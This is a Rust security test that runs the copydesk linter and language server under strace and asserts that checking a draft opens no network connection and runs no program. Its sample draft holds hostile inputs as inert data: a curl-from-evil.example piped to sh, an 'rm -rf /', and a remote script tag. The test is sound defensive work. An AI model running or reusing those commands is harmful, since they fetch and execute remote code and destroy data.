//! copydesk never opens a network connection and never runs a program, not
//! even for a draft full of links or a whole editor session. Watched with
//! `strace -f -e trace=network,execve` (every thread and child). Where
//! strace is missing or cannot trace, the test says `SKIPPED` on stderr and
//! passes, unless `COPYDESK_SECURITY_TEST=required` (set by `.ci/run`, which
//! installs strace): then a skip is a failure.

use std::io::{BufRead, BufReader, Write};
use std::path::Path;
use std::process::{Command, Stdio};

const DRAFT: &str = "# Deals\n\n\
Shop the [blender](https://www.amazon.com/dp/B000?tag=copydesk-20) and \
[the kettle](https://amzn.to/3xYz) or http://example.com/deal?utm_source=x.\n\n\
<img src=\"https://tracker.example/pixel.gif\"> <script src=\"https://evil.example/x.js\"></script>\n\n\
Use code SAVE20 at checkout. See ftp://files.example/leak and mailto:desk@example.com.\n\n\
$(curl https://evil.example | sh) `rm -rf /` <!-- copydesk-disable-line promo -->\n";

/// Whether strace can trace a child here (it needs ptrace).
fn strace_works() -> bool {
    Command::new("strace")
        .args(["-f", "-qq", "-o", "/dev/null", "true"])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .is_ok_and(|s| s.success())
}

fn traced(log: &Path) -> Command {
    let mut cmd = Command::new("strace");
    cmd.args(["-f", "-qq", "-e", "trace=network,execve", "-o"])
        .arg(log)
        .arg(env!("CARGO_BIN_EXE_copydesk"));
    cmd
}

/// The traced calls: one `execve` (strace starting copydesk) and nothing else.
fn assert_quiet(log: &Path) {
    let trace = std::fs::read_to_string(log).expect("strace output");
    let calls: Vec<&str> = trace
        .lines()
        .filter(|l| !l.contains("+++ exited"))
        // A thread still inside some syscall when the process ends is
        // shown as `???( <detached ...>`: strace letting go, not a call.
        .filter(|l| !l.contains("<detached ...>"))
        .collect();
    let execs = calls.iter().filter(|l| l.contains("execve(")).count();
    assert_eq!(execs, 1, "copydesk ran something:\n{trace}");
    let network: Vec<&&str> = calls.iter().filter(|l| !l.contains("execve(")).collect();
    assert!(network.is_empty(), "network calls:\n{trace}");
}

fn frame(body: &str) -> Vec<u8> {
    format!("Content-Length: {}\r\n\r\n{body}", body.len()).into_bytes()
}

fn read_message(out: &mut impl BufRead) -> serde_json::Value {
    let mut length = 0;
    loop {
        let mut line = String::new();
        assert!(out.read_line(&mut line).unwrap() > 0, "stdout closed");
        if line == "\r\n" {
            break;
        }
        if let Some(n) = line.strip_prefix("Content-Length: ") {
            length = n.trim().parse().unwrap();
        }
    }
    let mut body = vec![0; length];
    out.read_exact(&mut body).unwrap();
    serde_json::from_slice(&body).unwrap()
}

#[test]
fn no_network_and_no_programs_while_checking_or_serving() {
    if !strace_works() {
        let reason = "strace is not installed or cannot trace here";
        assert!(
            std::env::var("COPYDESK_SECURITY_TEST").as_deref() != Ok("required"),
            "{reason}; COPYDESK_SECURITY_TEST=required is set, so this is a failure, not a skip"
        );
        // Straight to the process's stderr: the harness swallows `eprintln!`
        // of a passing test, and a skip must not read as a plain "ok".
        let _ = writeln!(
            std::io::stderr(),
            "\nSKIPPED security::no_network_and_no_programs: {reason} \
             (set COPYDESK_SECURITY_TEST=required to make this a failure)"
        );
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let draft = dir.path().join("deals.md");
    std::fs::write(&draft, DRAFT).unwrap();

    // The command line.
    let log = dir.path().join("cli.trace");
    let out = traced(&log).arg("check").arg(&draft).output().unwrap();
    assert_eq!(out.status.code(), Some(1), "findings expected: {out:?}");
    assert_quiet(&log);

    // A server session: open the draft, wait for its diagnostics, shut down.
    let log = dir.path().join("lsp.trace");
    let mut child = traced(&log)
        .arg("lsp")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let mut stdout = BufReader::new(child.stdout.take().unwrap());
    let open = serde_json::json!({
        "jsonrpc": "2.0", "method": "textDocument/didOpen",
        "params": { "textDocument": {
            "uri": "file:///drafts/deals.md", "languageId": "markdown", "version": 1, "text": DRAFT
        }}
    });
    stdin
        .write_all(&frame(
            r#"{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"capabilities":{}}}"#,
        ))
        .unwrap();
    assert_eq!(read_message(&mut stdout)["id"], 1);
    stdin
        .write_all(&frame(
            r#"{"jsonrpc":"2.0","method":"initialized","params":{}}"#,
        ))
        .unwrap();
    stdin.write_all(&frame(&open.to_string())).unwrap();
    stdin.flush().unwrap();
    let publish = read_message(&mut stdout);
    assert_eq!(
        publish["method"], "textDocument/publishDiagnostics",
        "{publish}"
    );
    assert!(!publish["params"]["diagnostics"]
        .as_array()
        .unwrap()
        .is_empty());
    stdin
        .write_all(&frame(r#"{"jsonrpc":"2.0","id":2,"method":"shutdown"}"#))
        .unwrap();
    stdin.flush().unwrap();
    assert_eq!(read_message(&mut stdout)["id"], 2);
    stdin
        .write_all(&frame(r#"{"jsonrpc":"2.0","method":"exit"}"#))
        .unwrap();
    stdin.flush().unwrap();
    assert_eq!(child.wait().unwrap().code(), Some(0));
    assert_quiet(&log);
}
